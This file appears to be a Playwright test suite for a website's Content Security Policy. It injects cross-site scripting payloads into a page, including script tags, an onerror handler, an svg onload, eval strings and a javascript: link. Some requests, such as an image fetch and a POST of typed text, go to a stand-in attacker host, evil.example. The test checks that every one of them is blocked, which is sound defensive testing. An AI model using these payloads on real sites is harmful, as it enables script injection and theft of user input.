import { pagePaths } from '@/routing/pages';
import { pageName, wordsFor } from '@/words/words';
import { expect, test } from '../site';

const { services } = wordsFor('en').pages;

test.afterEach(({ trouble }) => {
  // The browser reports what the policy has stopped, and nothing else may stand on the console.
  const expected =
    /^Failed to load resource|violates the following|Content Security Policy|Trusted\w+' assignment/;
  trouble.console = trouble.console.filter((line) => !expected.test(line));
});

test('what is injected as a page is served, or while it is open, does not run, and sends nothing', async ({
  page,
  trouble,
}) => {
  const evil = 'window.evil = (window.evil ?? 0) + 1';
  const injected = `<script>${evil}</script><script src="https://evil.example/evil.js"></script>
    <img src="/none.png" onerror="${evil}"><iframe srcdoc="<script>parent.evil = 1</script>"></iframe>
    <base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/evil.css">`;
  await page.route('**/services', async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</main>', `${injected}</main>`);
    await route.fulfill({ response, body });
  });
  const stopped: string[] = [];
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') stopped.push(new URL(request.url()).origin);
  });
  await page.goto(pagePaths.services, { waitUntil: 'networkidle' });

  const refused = await page.evaluate(async (evil) => {
    // In a timer, since the policy does not apply to what a debugger evaluates.
    await new Promise((resolve) => setTimeout(resolve));
    const add = (name: string, attributes: object) => {
      const element = Object.assign(document.createElement(name), attributes);
      document.body.append(element);
      return element;
    };
    add('a', { href: `javascript:${evil}` }).click();
    add('iframe', { src: 'https://evil.example/' });
    add('img', { src: 'https://evil.example/?what=was+typed' });
    fetch('https://evil.example/', { method: 'POST', body: 'typed' }).catch(() => undefined);
    return [
      () => add('p', { innerHTML: `<svg onload="${evil}">` }),
      () => add('script', { src: 'https://evil.example/evil.js' }),
      // biome-ignore lint/security/noGlobalEval: it is what must not work.
      () => window.eval(evil),
      () => window.setTimeout(evil, 0),
      () => document.body.setAttribute('onclick', evil),
    ].map((act) => {
      try {
        act();
        return false;
      } catch (error) {
        return error instanceof TypeError || error instanceof EvalError;
      }
    });
  }, evil);
  expect(refused).toEqual(refused.map(() => true));
  await page.waitForLoadState('networkidle');

  expect(await page.evaluate(() => 'evil' in window)).toBe(false);
  await expect.poll(() => stopped).toEqual(trouble.hosts);
  trouble.hosts = [];
  // The page goes on working.
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(services.header.title);
  const fees = page.getByRole('banner').getByRole('link', { name: pageName('fees', 'en') });
  await fees.filter({ visible: true }).click();
  await expect(page).toHaveURL(pagePaths.fees);
});

test('a form that is injected sends nothing, not to this host either', async ({ page }) => {
  await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
  const told = page.waitForEvent('console', (message) => /form-action/.test(message.text()));
  await page.evaluate(() => {
    const form = document.createElement('form');
    document.body.append(form);
    form.submit();
  });
  await told;
});
